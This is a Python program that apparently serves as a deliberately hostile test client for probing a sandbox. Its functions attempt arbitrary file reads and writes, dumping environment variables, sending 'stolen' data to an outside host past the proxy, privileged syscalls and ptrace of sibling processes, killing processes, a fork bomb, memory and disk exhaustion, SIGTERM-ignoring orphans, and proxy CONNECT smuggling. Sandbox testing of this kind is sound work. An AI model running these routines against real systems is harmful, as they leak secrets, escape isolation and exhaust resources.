"""A connector that means ill. Its first argument says how; it reports what came of it, a line each.

`got …` is a success of the attack; `stopped …` is not.
"""

import ctypes
import errno
import json
import mmap
import os
import signal
import socket
import ssl
import sys
import time
import urllib.request


def attempt(what, attack):
    try:
        said = attack()
        print(f"got {what}: {said!r}", flush=True)
    except (OSError, ValueError) as error:
        code = getattr(error, "errno", None)
        print(f"stopped {what}: {errno.errorcode.get(code, error)}", flush=True)


def read(path):
    with open(path, "rb") as file:
        return file.read(200)


def write(path):
    with open(path, "wb") as file:
        file.write(b"x")


def libc_call(number, *arguments):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(number, *arguments) == -1:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return "done"


def files(*paths):
    for path in paths:
        attempt(path, lambda path=path: read(path))


def folder(*paths):
    for path in paths:
        attempt(path, lambda path=path: os.listdir(path))


def environment():
    print(json.dumps(dict(os.environ)), flush=True)


def write_around(*paths):
    for path in paths:
        attempt(path, lambda path=path: write(path))


def direct(host, port):
    """TCP and UDP, without the proxy."""

    def tcp():
        with socket.create_connection((host, int(port)), timeout=3) as stream:
            stream.sendall(b"stolen")
            return "sent"

    def udp():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
            datagrams.sendto(b"stolen", (host, int(port)))
            return "sent"

    def fast_open():
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as stream:
            stream.sendto(b"stolen", 0x20000000, (host, int(port)))
            return "sent"

    attempt("tcp", tcp)
    attempt("fast open", fast_open)
    # In a network of its own a datagram may go to its own loopback, where nobody listens.
    attempt("udp", udp)


def around(host):
    """The proxy's port, elsewhere."""
    sys.stdin.readline()
    port = int(os.environ["HTTPS_PROXY"].rsplit(":", 1)[1])
    attempt("around", lambda: socket.create_connection((host, port), timeout=5) and "connected")


def sockets(*paths):
    def unix(path):
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as stream:
            stream.connect(path)
            return "connected"

    for path in paths:
        attempt(path, lambda path=path: unix(path))


def names(name):
    attempt("dns", lambda: socket.getaddrinfo(name, 443))


def families():
    for name, family, kind in [
        ("raw", socket.AF_INET, socket.SOCK_RAW),
        ("packet", socket.AF_PACKET, socket.SOCK_RAW),
        ("vsock", 40, socket.SOCK_STREAM),
        ("alg", 38, socket.SOCK_SEQPACKET),
    ]:
        attempt(name, lambda family=family, kind=kind: socket.socket(family, kind) and "made")


def calls():
    """System calls that nobody needs for reading a bank's website, x86-64 and the generic numbers."""
    intel = os.uname().machine == "x86_64"
    for name, number, other, *arguments in [
        ("keyctl", 250, 219, 0, -3, 0),
        ("add_key", 248, 217, b"user", b"x", b"y", 1, -3),
        ("unshare", 272, 97, 0x10000000),
        ("mount", 165, 40, b"none", b"/tmp", b"tmpfs", 0, None),
        ("setns", 308, 268, 0, 0),
        ("bpf", 321, 280, 0, None, 0),
        ("io_uring_setup", 425, 425, 1, None),
        ("userfaultfd", 323, 282, 0),
        ("perf_event_open", 298, 241, None, 0, 0, 0, 0),
        ("process_vm_readv", 310, 270, os.getppid(), None, 0, None, 0, 0),
        ("clone with a user namespace", 56, 220, 0x10000000 | 17, None, None, None, None),
        ("shmget", 29, 194, 1, 1 << 20, 0o1600),
        ("x32 numbers", 0x40000000 + 39, 0x40000000 + 39),
    ]:
        attempt(name, lambda n=number if intel else other, a=arguments: libc_call(n, *a))


def siblings(*processes):
    ptrace = 101 if os.uname().machine == "x86_64" else 117
    for process in [*map(int, processes), os.getppid()]:
        attempt("ptrace", lambda: libc_call(ptrace, 16, process, None, None))
        attempt("memory", lambda: read(f"/proc/{process}/mem"))
        attempt("environment", lambda: read(f"/proc/{process}/environ"))
        attempt("limits", lambda: libc_call(302 if ptrace == 101 else 261, process, 7, b"\0" * 16, None))
    for process in map(int, processes):
        attempt("kill", lambda: os.kill(process, signal.SIGKILL))
    # The first process of a namespace does not hear what its own children send.
    for number in (signal.SIGKILL, signal.SIGSTOP):
        try:
            os.kill(os.getppid(), number)
        except OSError:
            pass
    print("still here", flush=True)


def fork_bomb():
    while True:
        try:
            os.fork()
        except OSError:
            pass


def memory(how):
    kept = []
    if how == "one":
        while True:
            kept.append(b"x" * (8 << 20))
    if how == "family":
        for _ in range(10):
            if os.fork() == 0:
                kept.append(b"x" * (48 << 20))
                break
        time.sleep(600)
    if how == "shared":
        while True:
            piece = mmap.mmap(-1, 8 << 20)
            piece.write(b"x" * (8 << 20))
            kept.append(piece)
    if how == "unnamed":
        while True:
            piece = os.memfd_create("x")
            os.write(piece, b"x" * (8 << 20))
            kept.append(piece)


def fill(place, how):
    place = os.environ[place] if place in os.environ else place
    total = 0
    try:
        if how == "bytes":
            for number in range(1000):
                with open(f"{place}/{number}", "wb") as file:
                    while file.tell() < 4 << 20:
                        total += file.write(b"x" * (1 << 20))
                        file.flush()
        elif how == "one":
            with open(f"{place}/one", "wb") as file:
                while True:
                    total += file.write(b"x" * (1 << 20))
                    file.flush()
        else:
            for number in range(10_000_000):
                open(f"{place}/{number}", "wb").close()
    except OSError as error:
        print(f"stopped after {total >> 20} MiB: {errno.errorcode.get(error.errno)}", flush=True)


def endless(line):
    ending = b"" if line == "line" else b"\n"
    while True:
        os.write(1, b"x" * 65535 + ending)


def busy():
    while True:
        pass


def orphan(then):
    """A grandchild in a session of its own, whose parents are gone."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            os.close(0), os.close(1), os.close(2)
            while True:
                time.sleep(1)
        os._exit(0)
    os.wait()
    if then == "stay":
        # Before it says a word: whoever hears it may ask it to end.
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
    print("orphaned", flush=True)
    if then == "stay":
        while True:
            time.sleep(1)


def obey():
    def leave(*_):
        os.write(1, b"bye\n")
        os._exit(7)

    signal.signal(signal.SIGTERM, leave)
    os.write(1, b"ready\n")
    while True:
        time.sleep(1)


def proxy(target, greeting, literal=""):
    """CONNECT to `target`, then greet as a client of `greeting`; what is passed on, is stolen."""
    address = os.environ["HTTPS_PROXY"].removeprefix("http://").rsplit(":", 1)
    with socket.create_connection((address[0], int(address[1])), timeout=20) as stream:
        stream.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        answer = stream.recv(4096).decode()
        print(answer.splitlines()[0] if answer else "closed", flush=True)
        if " 200 " not in answer:
            return
        if greeting == "none":
            stream.sendall(b"GET / HTTP/1.1\r\nHost: stolen\r\n\r\n")
        else:
            coming, going = ssl.MemoryBIO(), ssl.MemoryBIO()
            context = ssl.create_default_context()
            client = context.wrap_bio(coming, going, server_hostname=greeting)
            try:
                client.do_handshake()
            except ssl.SSLWantReadError:
                pass
            stream.sendall(going.read())
        print("heard" if stream.recv(100) else "closed", flush=True)


def visit(url):
    """An honest client, which believes what the environment says of proxies and authorities."""
    with urllib.request.urlopen(url, timeout=30) as answer:
        print(answer.read().decode(), flush=True)


def tell():
    print(f"uid {os.getuid()}", flush=True)
    print(f"home {os.listdir(os.environ['HOME'])}", flush=True)
    print(f"folder {sorted(os.listdir('.'))}", flush=True)
    print(f"said {sys.stdin.readline().strip()}", flush=True)


globals()[sys.argv[1]](*sys.argv[2:])
